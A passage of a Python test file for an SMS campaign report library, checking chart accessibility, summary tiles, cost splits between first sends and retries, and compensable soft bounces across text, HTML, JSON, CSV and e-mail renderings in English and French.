    header = next(csv.reader(io.StringIO(stats.to_csv()["campaigns.csv"])))
    assert set(header) == set(stats.to_pandas().reset_index().columns)


# --- issue 15: charts, tiles, activity, attention, the figures still to come ------------------


def test_html_charts_have_text_alternatives() -> None:
    """Every chart is an ``<svg role="img">`` labelled by a ``<title>`` in words; the swatches
    of the legends are decorative (``aria-hidden``)."""
    source = REPORT.to_html(history=HISTORY)
    charts = re.findall(r"<svg ([^>]*)>(.*?)</svg>", source, flags=re.S)
    labelled = [(attributes, body) for attributes, body in charts if 'role="img"' in attributes]
    assert len(labelled) >= 1 + 3 + 3 + 1  # outcomes, 3 lists, 3 reasons, over time
    for attributes, body in labelled:
        (title_id,) = re.findall(r'aria-labelledby="([^"]+)"', attributes)
        (title,) = re.findall(rf'<title id="{title_id}">([^<]+)</title>', body)
        assert title.strip()
    for attributes, _ in charts:
        assert 'role="img"' in attributes or 'aria-hidden="true"' in attributes
    ids = re.findall(r'id="([^"]+)"', source)
    assert len(ids) == len(set(ids))
    assert "Outcomes of the recipients: Delivered: 3 (33.33%)" in source
    # Only texts (history details, chart labels) may break anywhere, never a table cell.
    for rule in re.findall(r"([^{}]+)\{[^}]*overflow-wrap:anywhere", source):
        assert rule.strip() in (".scs ul.details li", ".scs .bars .label")


def test_html_tiles_summary_and_activity_sections() -> None:
    """Headline tiles, the message with its encoding, the send window, per country and over
    time (issue 15, HTML point 2)."""
    page = Page(REPORT.to_html())
    text = " ".join(" ".join(page.text).split())
    for tile in ("Recipients 9", "Delivered 33.33% 3 of recipients", "Cost €0.45"):
        assert tile in text
    assert ["Message", "GSM-7, 68 characters, 1 segment"] == page.row("Message")
    assert page.row("Sent")[1].startswith("from Mar 2, 2026, 11:30:00 AM UTC")
    assert ["France", "FR", "9", "3", "33.33%", "3", "2", "1"] == page.row("France")
    assert "Final outcomes per hour (UTC)" in text
    assert "Reply STOP to opt out." in text
    french = " ".join(" ".join(Page(REPORT.to_html(locale="fr")).text).split())
    assert "Résultats finaux par heure (UTC)" in french
    assert "Par pays" in french


def test_report_without_activity_leaves_its_sections_out() -> None:
    """A report built from counts alone (``activity=None``) has no country, time or window."""
    bare = attrs.evolve(REPORT, activity=None)
    text, page = bare.to_text(), Page(bare.to_html())
    for words in ("Per country", "Sent   ", "Over time"):
        assert words not in text
    body = "".join(page.text)
    assert "Per country" not in body
    assert "Over time" not in body
    assert not [row for row in page.rows if row[0] == "Sent"]


def test_red_is_for_attention_never_for_a_zero() -> None:
    """Avoidable reasons and an amount spent on them are red; a zero never is."""
    source = REPORT.to_html()
    red_cells = re.findall(r'<t[dh][^>]*class="[^"]*attention[^"]*"[^>]*>([^<]*)<', source)
    assert red_cells
    for cell in red_cells:
        assert any(c in "123456789" for c in cell) or not any(c.isdigit() for c in cell), cell
    nothing_avoidable = attrs.evolve(REPORT, avoidable_bounced_cost=Decimal(0))
    page = Page(nothing_avoidable.to_html())
    marked = {row[0] for row, css in zip(page.rows, page.row_classes, strict=True) if css}
    assert "of which on avoidable bounces" not in marked


def test_cost_split_and_compensable_in_every_rendering() -> None:
    """The cost is every submission (10: 8 first sends, 2 retries), split into first sends and
    retries; the bounces cost every failed submission (6, the failed first attempt of a
    message a retry delivered included); the compensable soft bounce (the platform's fault,
    retried once: 2 submissions) shows its count, cost and reason in the text, the HTML, the
    JSON, the CSV and the e-mail, in English and French (issue 15, points 1 and 2)."""
    assert (10, 8, 2, 6) == (
        REPORT.totals.submissions,
        REPORT.totals.sent,
        REPORT.totals.retries,
        REPORT.totals.failed_submissions,
    )
    assert (Decimal("0.450"), Decimal("0.360"), Decimal("0.090"), Decimal("0.270")) == (
        REPORT.cost,
        REPORT.first_send_cost,
        REPORT.retry_cost,
        REPORT.bounced_cost,
    )
    text = REPORT.to_text()
    assert "Cost                  €0.45  10 submissions, 10 segments, €0.045 per segment" in text
    assert "  first sends         €0.36  8 messages sent" in text
    assert "  retries             €0.09  2 retries" in text
    assert "Spent on bounces      €0.27  6 failed submissions" in text
    assert "Compensable: soft bounces caused by the platform's own fault" in text
    assert "  1 soft bounce, €0.09: what you may claim from the provider" in text
    assert "  Provider failure, reason unknown: 1" in text
    assert "  Provider vonage: 1" in text
    french = REPORT.to_text(locale="fr")
    assert "  1 soft bounce, 0,09 € : ce que vous pouvez réclamer au fournisseur" in french
    assert "  Fournisseur vonage : 1" in french
    assert "10 envois, 10 segments" in french
    page = Page(REPORT.to_html())
    assert ["Compensable soft bounces", "1", "€0.09"] == page.row("Compensable soft bounces")
    assert ["first sends", "€0.36", "8 messages sent"] == page.row("first sends")
    assert ["retries", "€0.09", "2 retries"] == page.row("retries")
    assert ["Provider failure, reason unknown", "1", ""] == page.row(
        "Provider failure, reason unknown", 1, count=2
    )
    assert ["Provider vonage", "1", ""] == page.row("Provider vonage")
    assert "Fournisseur vonage" in " ".join(Page(REPORT.to_html(locale="fr")).text)
    shape = REPORT.to_dict()
    assert {
        "pricing": "per_submission",
        "sent": "0.450",
        "first_sends": "0.360",
        "retries": "0.090",
        "bounced": "0.270",
    }.items() <= shape["cost"].items()
    assert {
        "count": 1,
        "cost": "0.090",
        "reasons": [{"reason": "provider_unknown_failure", "count": 1}],
        "providers": [{"provider": "vonage", "count": 1}],
    } == shape["compensable"]
    (summary,) = read_csv(REPORT.to_csv()["summary.csv"])
    assert ("per_submission", "0.360", "0.090", "1", "0.090", "provider_unknown_failure=1") == (
        summary["pricing"],
        summary["first_send_cost"],
        summary["retry_cost"],
        summary["compensable_count"],
        summary["compensable_cost"],
        summary["compensable_reasons"],
    )
    assert "vonage=1" == summary["compensable_providers"]
    (french_summary,) = read_csv(REPORT.to_csv(locale="fr")["summary.csv"])
    assert "vonage=1" == french_summary["fournisseurs_compensables"]
    mail = REPORT.to_email(to="team@example.com", sender="reports@example.com")
    body = mail.get_body(("plain",))
    assert body is not None
    assert "1 soft bounce, €0.09: what you may claim from the provider" in body.get_content()
    assert "Provider vonage: 1" in body.get_content()
    html = mail.get_body(("html",))
    assert html is not None
    assert "Provider vonage" in html.get_content()


def test_per_message_sent_pricing_bills_each_message_once() -> None:
    """``pricing="per_message_sent"`` (Brevo bills its customers so): 8 messages sent, no retry
    billed, the bounced messages' segments as the bounce cost; said in every rendering."""
    per_message, _ = build_report(pricing="per_message_sent")
    assert (Decimal("0.360"), Decimal("0.360"), Decimal("0.000"), Decimal("0.180")) == (
        per_message.cost,
        per_message.first_send_cost,
        per_message.retry_cost,
        per_message.bounced_cost,
    )
    assert per_message.compensable is not None
    assert Decimal("0.045") == per_message.compensable.cost
    text = per_message.to_text()
    assert "€0.36  8 messages sent, 8 segments, €0.045 per segment" in text
    assert "billed per message sent, retries not billed" in text
    assert "per_message_sent" == per_message.to_dict()["cost"]["pricing"]
    assert "per_message_sent" == read_csv(per_message.to_csv()["summary.csv"])[0]["pricing"]
    assert "retries not billed" in " ".join(Page(per_message.to_html()).text)
    with pytest.raises(ValidationError, match="pricing"):
        build_report(pricing="per_sms")
